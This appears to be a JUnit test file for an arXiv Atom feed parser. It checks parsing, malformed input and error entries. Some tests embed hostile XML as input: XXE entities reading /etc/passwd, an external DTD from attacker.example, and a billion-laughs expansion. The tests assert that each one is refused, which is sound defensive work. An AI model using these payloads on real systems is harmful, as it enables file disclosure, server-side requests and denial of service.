package io.papergraph.corpus;

import org.junit.jupiter.api.DisplayName;
import org.junit.jupiter.api.Test;

import java.io.ByteArrayOutputStream;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.List;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

class ArxivAtomPaperParserTest {

    private static final String FEED = """
            <?xml version="1.0" encoding="UTF-8"?>
            <feed xmlns="http://www.w3.org/2005/Atom" xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/"
                  xmlns:arxiv="http://arxiv.org/schemas/atom">
              <title type="html">ArXiv Query: search_query=all:agents</title>
              <opensearch:totalResults>2</opensearch:totalResults>
              <entry>
                <id>http://arxiv.org/abs/2401.01234v2</id>
                <updated>2024-02-01T10:00:00Z</updated>
                <published>2024-01-03T18:00:00Z</published>
                <title>StepWise: Verifiable
                  Planning for Language Agents</title>
                <summary>  We propose StepWise &amp; check
                  every step.
                </summary>
                <author><name>Ada Lovelace</name></author>
                <author><name>Alan Turing</name><arxiv:affiliation>Bletchley</arxiv:affiliation></author>
                <link href="http://arxiv.org/abs/2401.01234v2" rel="alternate" type="text/html"/>
                <link title="pdf" href="http://arxiv.org/pdf/2401.01234v2" rel="related" type="application/pdf"/>
                <arxiv:primary_category term="cs.CL" scheme="http://arxiv.org/schemas/atom"/>
              </entry>
              <a:entry xmlns:a="http://www.w3.org/2005/Atom">
                <a:id>http://arxiv.org/abs/cs/0112017v1</a:id>
                <a:published>2001-12-14T00:00:00Z</a:published>
                <a:title><![CDATA[Sparse <Routing>]]></a:title>
                <a:summary>We study routing.</a:summary>
              </a:entry>
            </feed>
            """;

    private static ParsedPaperList parse(String xml) {
        return PaperLists.parse(PaperFormat.ARXIV_ATOM, xml, "arxiv");
    }

    @Test
    @DisplayName("an arXiv feed with two entries gives two papers with title, summary, year, authors and https url")
    void happyPath() {
        ParsedPaperList result = parse(FEED);

        assertEquals(List.of(), result.problems());
        assertEquals(List.of(
                new PaperRecord("stepwise-verifiable-planning-for-language-agents", "StepWise: Verifiable Planning for Language Agents",
                        "We propose StepWise & check every step.", "arxiv:entry 1 (line 6)", "https://arxiv.org/abs/2401.01234", 2024,
                        List.of("Ada Lovelace", "Alan Turing")),
                new PaperRecord("sparse-routing", "Sparse <Routing>", "We study routing.", "arxiv:entry 2 (line 21)",
                        "https://arxiv.org/abs/cs/0112017", 2001, List.of())),
                result.papers());
    }

    @Test
    @DisplayName("a feed with zero entries is no papers and no problem")
    void emptyFeed() {
        ParsedPaperList result = parse("""
                <feed xmlns="http://www.w3.org/2005/Atom" xmlns:opensearch="http://a9.com/-/spec/opensearch/1.1/">
                  <opensearch:totalResults>0</opensearch:totalResults>
                </feed>
                """);

        assertTrue(result.valid());
        assertEquals(List.of(), result.papers());
    }

    @Test
    @DisplayName("an XXE attempt is refused at 'body' and no file content appears anywhere")
    void xxe() {
        ParsedPaperList result = parse("""
                <?xml version="1.0"?>
                <!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
                <feed xmlns="http://www.w3.org/2005/Atom">
                  <entry><title>&xxe;</title><summary>&xxe;</summary></entry>
                </feed>
                """);

        assertEquals(List.of(new RecordProblem("body", "DOCTYPE declarations are not allowed (external entities are never resolved)")),
                result.problems());
        assertEquals(List.of(), result.papers());
        assertFalse(result.toString().contains("root:"), "no /etc/passwd content");
    }

    @Test
    @DisplayName("a DOCTYPE after comments and processing instructions is refused too")
    void doctypeAfterComments() {
        ParsedPaperList result = parse("""
                <?xml version="1.0"?><!-- a comment --><?pi x?>
                <!DOCTYPE feed SYSTEM "http://attacker.example/evil.dtd"><feed xmlns="http://www.w3.org/2005/Atom"/>
                """);

        assertEquals(List.of(new RecordProblem("body", ArxivAtomPaperParser.DOCTYPE_REFUSED)), result.problems());
    }

    @Test
    @DisplayName("billion laughs is refused quickly")
    void billionLaughs() {
        StringBuilder xml = new StringBuilder("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n<!ENTITY lol \"lol\">\n");
        for (int i = 1; i <= 9; i++) {
            xml.append("<!ENTITY lol").append(i).append(" \"").append(("&lol" + (i == 1 ? "" : i - 1) + ";").repeat(10)).append("\">\n");
        }
        xml.append("]>\n<feed xmlns=\"http://www.w3.org/2005/Atom\"><entry><title>&lol9;</title><summary>x</summary></entry></feed>");

        ParsedPaperList result = assertTimeoutPreemptively(Duration.ofSeconds(2), () -> parse(xml.toString()));

        assertEquals(List.of(new RecordProblem("body", ArxivAtomPaperParser.DOCTYPE_REFUSED)), result.problems());
    }

    @Test
    @DisplayName("without the prolog check the StAX parser still refuses the DTD and reads no file")
    void parserRefusesDtd() {
        DraftList read = ArxivAtomPaperParser.parseWithoutPrologCheck("""
                <?xml version="1.0"?>
                <!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>
                <feed xmlns="http://www.w3.org/2005/Atom"><entry><title>&xxe;</title><summary>&xxe;</summary></entry></feed>
                """);

        assertEquals(List.of(), read.drafts());
        assertEquals(List.of(new RecordProblem("body", ArxivAtomPaperParser.DOCTYPE_REFUSED)), read.documentProblems());
        assertFalse(read.toString().contains("root:"), "no /etc/passwd content");
    }

    @Test
    @DisplayName("malformed XML is one problem with line and column, and nothing is printed to stderr")
    void malformed() {
        PrintStream err = System.err;
        ByteArrayOutputStream captured = new ByteArrayOutputStream();
        ParsedPaperList result;
        try {
            System.setErr(new PrintStream(captured, true, StandardCharsets.UTF_8));
            result = parse("""
                    <feed xmlns="http://www.w3.org/2005/Atom">
                      <entry><title>Unclosed</summary></entry>
                    </feed>
                    """);
        } finally {
            System.setErr(err);
        }

        assertEquals(1, result.problems().size());
        assertEquals("line 2", result.problems().get(0).location().replaceFirst(", column \\d+$", ""));
        assertTrue(result.problems().get(0).reason().startsWith("malformed XML: "), result.problems().get(0).reason());
        assertEquals("", captured.toString(StandardCharsets.UTF_8));
    }

    @Test
    @DisplayName("a root that is not an Atom feed is a problem at 'body'")
    void notAtom() {
        assertEquals(List.of(new RecordProblem("body", "expected an Atom feed (<feed xmlns=\"http://www.w3.org/2005/Atom\">), got <rss> without namespace")),
                parse("<rss version=\"2.0\"><channel/></rss>").problems());
        assertEquals(List.of(new RecordProblem("body", "expected an Atom feed (<feed xmlns=\"http://www.w3.org/2005/Atom\">), got <feed> without namespace")),
                parse("<feed><entry/></feed>").problems());
    }

    @Test
    @DisplayName("entries without title or summary are problems by entry number and line")
    void missingFields() {
        ParsedPaperList result = parse("""
                <feed xmlns="http://www.w3.org/2005/Atom">
                  <entry><title>Only Title</title></entry>
                  <entry>
                    <summary>Only summary.</summary>
                  </entry>
                  <entry><title>Fine</title><summary>Fine.</summary><published>2024-13-99</published></entry>
                </feed>
                """);

        assertEquals(List.of(
                new RecordProblem("entry 1 (line 2)", "no <summary>; papergraph extracts from title and abstract"),
                new RecordProblem("entry 2 (line 3)", "no <title>")), result.problems());
        assertEquals(List.of("fine"), result.papers().stream().map(PaperRecord::id).toList());
    }

    @Test
    @DisplayName("an arXiv API error entry is reported with its message")
    void arxivError() {
        ParsedPaperList result = parse("""
                <feed xmlns="http://www.w3.org/2005/Atom">
                  <entry>
                    <id>http://arxiv.org/api/errors#incorrect_id_format_for_1234</id>
                    <title>Error</title>
                    <summary>incorrect id format for 1234</summary>
                  </entry>
                </feed>
                """);

        assertEquals(List.of(new RecordProblem("entry 1 (line 2)", "arXiv reported an error: incorrect id format for 1234")), result.problems());
    }

    @Test
    @DisplayName("control characters from numeric references are binary data")
    void controlCharacterReference() {
        ParsedPaperList result = parse("""
                <?xml version="1.1"?>
                <feed xmlns="http://www.w3.org/2005/Atom"><entry><title>A&#x1;B</title><summary>S.</summary></entry></feed>
                """);

        assertEquals(List.of(new RecordProblem("entry 1 (line 2)", "title contains binary data (control character U+0001)")), result.problems());
    }
}
